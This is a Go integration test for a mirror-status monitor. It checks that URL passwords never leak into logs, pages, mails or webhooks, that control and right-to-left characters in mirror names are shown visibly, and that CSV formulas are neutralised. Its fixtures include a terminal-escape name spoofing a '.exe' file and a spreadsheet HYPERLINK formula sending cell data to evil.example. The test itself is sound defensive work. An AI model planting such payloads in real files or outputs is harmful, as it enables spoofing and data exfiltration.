package main

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	"github.com/mirrorsentry/sentry/internal/testkit/factory"
	"github.com/mirrorsentry/sentry/internal/testkit/smtptest"
	kit "github.com/mirrorsentry/sentry/internal/testkit/world"
	"github.com/mirrorsentry/sentry/sentry/demo/localmirror"
)

// The hostile inputs of TestNoOutputShowsAPasswordOrARawControl: a base
// URL's password, a mirror name that sets a terminal's title (OSC), rings
// its bell, returns its cursor and reverses what follows, and one that a
// spreadsheet would run.
const (
	hostilePassword = "secretpass"
	hostileName     = "evil\x1b]0;pwned\x07\r\u202Egnp.exe"
	hostileShown    = "evil␛]0;pwned␇␍[U+202E]gnp.exe"
	formulaName     = `=HYPERLINK("http://evil.example/?"&A1,"click")`
)

// rawSink records the bodies of the webhook POSTs it is sent, as sent.
type rawSink struct {
	mu     sync.Mutex
	bodies []string
}

func (s *rawSink) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	s.mu.Lock()
	s.bodies = append(s.bodies, string(b))
	s.mu.Unlock()
	w.WriteHeader(http.StatusNoContent)
}

func (s *rawSink) all() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.bodies...)
}

// rawControl finds, in text for people, a character that a terminal, a
// page or a reader would act on: a control character other than a line
// break, or a bidirectional control.
func rawControl(s string) (rune, bool) {
	for _, r := range s {
		if (r < 0x20 && r != '\n') || (r >= 0x7f && r <= 0x9f) || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u2029' {
			return r, true
		}
	}
	return 0, false
}

// TestNoOutputShowsAPasswordOrARawControl runs the built binary through a
// whole job — prime, sweeps taking a mirror down, every report form, the
// daemon's page, API and metrics — with mirrors whose base URLs carry a
// user and password and whose names hold escapes, a bell, a carriage
// return, a right-to-left override and a spreadsheet formula, mail to
// their admins through a real SMTP server and webhooks; and finds the
// password in no output (command output, logs at debug level, pages, API,
// reports, mails, webhooks, what sentry wrote for bouncer's viewers), no
// raw control or bidirectional character where people read, the hostile
// name shown as visible text, and no CSV cell a formula. The mirrors were
// asked with their credentials all the same.
func TestNoOutputShowsAPasswordOrARawControl(t *testing.T) {
	t.Parallel()
	rel := &localmirror.Release{Name: "1.5", Dir: "/firefox/releases/1.5/", Files: map[string][]byte{}}
	for i := range 3 {
		p := fmt.Sprintf("win32/xpi/lang-%d.xpi", i)
		rel.Files[p] = localmirror.Content(p, 4000)
	}
	w := newBareWorld(t, rel)
	mail := smtptest.Start(t, smtptest.Options{})
	sink := &rawSink{}
	hooks := httptest.NewServer(sink)
	t.Cleanup(hooks.Close)
	cfg := fmt.Sprintf(`database:
  url: %s
master:
  url: %s
releases:
  dir: /firefox/releases/{release}/
  products: ["Firefox-{release}"]
  default_langs: ["0", "1", "2"]
checks:
  contact: ops@example.org
  per_mirror_rate: 100000
  retries: 0
guard:
  max_down_fraction: 0.9
http:
  listen: 127.0.0.1:0
  public_url: https://status.example.org
notify:
  webhooks: [%q]
  retry_wait_max: 1s
  smtp:
    host: 127.0.0.1
    port: %d
    starttls: false
    from: sentry@example.org
schedule:
  sweep: "0 0 1 1 *"
  deep_sweep: "0 0 1 1 *"
shutdown_grace: 2s
`, w.DBURL, w.Master.URL, hooks.URL, mail.Port)
	if err := os.WriteFile(w.Config, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	var out outputs
	run := func(name string, args ...string) string {
		t.Helper()
		stdout, stderr, code := runSentry(t, w.Config, nil, args...)
		if code != 0 {
			t.Fatalf("sentry %s: exit %d\n%s\n%s", strings.Join(args, " "), code, stdout, stderr)
		}
		out.add(name+" (stdout)", stdout)
		out.add(name+" (stderr)", stderr)
		return stdout
	}
	run("db migrate", "db", "migrate")
	w.Product(t, "Firefox-1.5", nil, location{OS: "win", Path: "/firefox/releases/1.5/win32/xpi/lang-:lang.xpi"})
	var asked atomic.Int64 // requests made with the base URL's credentials
	withPassword := func(s *localmirror.Server) string {
		s.Observe(func(r *http.Request) func() {
			if _, pw, ok := r.BasicAuth(); ok && pw == hostilePassword {
				asked.Add(1)
			}
			return nil
		})
		return strings.Replace(s.URL, "http://", "http://user:"+hostilePassword+"@", 1)
	}
	var evil *localmirror.Server
	for _, m := range []struct{ name, server, contact string }{
		{"good", "good", "admin@good.example"},
		{hostileName, "evil", "admin@evil.example"},
		{formulaName, "formula", "admin@formula.example"},
	} {
		s, err := localmirror.NewStatic(m.server, rel)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { s.Close() })
		if m.server == "evil" {
			evil = s
		}
		w.AddMirror(t, &factory.MirrorOpts{Name: m.name, BaseURL: withPassword(s), Settings: &factory.MirrorSettingsOpts{Contact: m.contact}})
	}
	run("prime", "prime", "--release", "1.5", "--verbose")
	run("prime json", "prime", "--release", "1.5", "--force", "--format", "json")
	kit.Failing(evil).Store(true)
	run("sweep", "sweep", "--verbose")
	run("sweep json", "sweep", "--format", "json", "--verbose") // down: a mail, a webhook
	run("deep sweep", "sweep", "--deep", "--verbose")
	run("report", "report")
	run("report wide", "report", "--wide")
	run("report json", "report", "--format", "json")
	csv := run("report csv", "report", "--format", "csv")
	run("report mirror", "report", "--mirror", hostileName)
	run("report mirror json", "report", "--mirror", hostileName, "--format", "json")
	run("report mirror csv", "report", "--mirror", hostileName, "--format", "csv")
	run("report release", "report", "--release", "1.5")
	run("report release csv", "report", "--release", "1.5", "--format", "csv")

	d := w.startDaemon(t, "daemon")
	deadline := time.After(90 * time.Second)
	for started := false; !started; {
		select {
		case l := <-d.lines:
			started = strings.Contains(l, "sentry run started")
		case <-d.exited:
			t.Fatalf("sentry run exited: %v\n%s", d.err, d.logText())
		case <-deadline:
			t.Fatalf("sentry run did not start:\n%s", d.logText())
		}
	}
	addr := d.listenAddr(t)
	pages := map[string]string{}
	for _, p := range []string{"/", "/mirrors/" + url.PathEscape(hostileName), "/releases/1.5", "/api/mirrors",
		"/api/mirrors/" + url.PathEscape(hostileName), "/api/runs", "/api/history", "/metrics"} {
		code, body := httpGet(t, "http://"+addr+p)
		if code != http.StatusOK {
			t.Errorf("GET %s: %d", p, code)
		}
		out.add("GET "+p, body)
		pages[p] = body
	}
	if err := d.stop(t); err != nil {
		t.Errorf("sentry run: %v", err)
	}
	out.add("sentry run (stderr)", d.logText())

	msgs := mail.Wait(t, 1, time.Minute)
	for _, m := range msgs {
		out.add("mail "+m.Header.Get("Subject"), m.Body)
		if strings.Contains(string(m.Raw), hostilePassword) {
			t.Errorf("mail %q holds the password", m.Header.Get("Subject"))
		}
	}
	if !strings.Contains(msgs[0].Body, hostileShown) {
		t.Errorf("the mail does not show the mirror's name as visible text:\n%s", msgs[0].Body)
	}
	hookBodies := sink.all()
	if len(hookBodies) == 0 {
		t.Error("no webhook was sent")
	}
	for i, b := range hookBodies {
		out.add(fmt.Sprintf("webhook %d", i), b)
	}
	var dbText string
	w.Query(t, `SELECT coalesce(string_agg(reason, E'\n'), '') FROM sentry_log`, &dbText)
	out.add("sentry_log", dbText)
	w.Query(t, `SELECT coalesce(string_agg(detail, E'\n'), '') FROM sentry_checks`, &dbText)
	out.add("sentry_checks", dbText)
	w.Query(t, `SELECT coalesce(string_agg(reason, E'\n'), '') FROM sentry_state_changes`, &dbText)
	out.add("sentry_state_changes", dbText)

	total := 0
	for _, o := range out.items {
		total += len(o.text)
		if i := strings.Index(o.text, hostilePassword); i >= 0 {
			t.Errorf("%s shows the password: …%q…", o.name, o.text[max(i-60, 0):min(i+20, len(o.text))])
		}
		if strings.HasPrefix(o.name, "sentry_") {
			continue // what the database holds, names included, as admins wrote them
		}
		if r, ok := rawControl(o.text); ok {
			i := strings.IndexRune(o.text, r)
			t.Errorf("%s holds %q raw: …%q…", o.name, r, o.text[max(i-40, 0):min(i+20, len(o.text))])
		}
	}
	for _, name := range []string{"report (stdout)", "report mirror (stdout)", "GET /", "GET /mirrors/" + url.PathEscape(hostileName)} {
		for _, o := range out.items {
			if o.name == name && !strings.Contains(o.text, "evil␛]0;pwned") {
				t.Errorf("%s does not show the name as visible text", name)
			}
		}
	}
	if !regexp.MustCompile(`(?m)^\d+,"'=HYPERLINK\(`).MatchString(csv) {
		t.Errorf("the formula is not neutralised in the CSV:\n%s", csv)
	}
	if !strings.Contains(pages["/api/mirrors"], `\u202e`) {
		t.Error("the API does not keep the name exact, its override escaped")
	}
	if asked.Load() == 0 {
		t.Error("no request carried the base URL's credentials")
	}
	t.Logf("scanned %d outputs, %d bytes; %d mails, %d webhooks; %d requests with credentials",
		len(out.items), total, len(msgs), len(hookBodies), asked.Load())
}
